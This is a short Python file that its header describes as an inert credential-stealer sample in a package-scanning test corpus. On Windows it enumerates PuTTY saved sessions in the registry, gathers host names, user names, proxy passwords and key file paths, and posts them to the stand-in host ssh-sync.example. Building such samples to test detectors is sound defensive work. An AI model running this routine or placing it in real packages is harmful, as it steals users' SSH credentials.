# pkgguard corpus 803 (credentials), modelled on [stealer-profile]; inert, never run.
import sys

import requests

if sys.platform == "win32":
    import winreg

    sessions = {}
    try:
        root = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\SimonTatham\PuTTY\Sessions")
    except OSError:
        root = None
    index = 0
    while root is not None:
        try:
            name = winreg.EnumKey(root, index)
        except OSError:
            break
        with winreg.OpenKey(root, name) as session:
            values = {}
            for field in ("HostName", "UserName", "ProxyUsername", "ProxyPassword", "PublicKeyFile"):
                try:
                    values[field] = winreg.QueryValueEx(session, field)[0]
                except OSError:
                    pass
            sessions[name] = values
        index += 1
    if sessions:
        requests.post("https://ssh-sync.example/p", json=sessions, timeout=10)
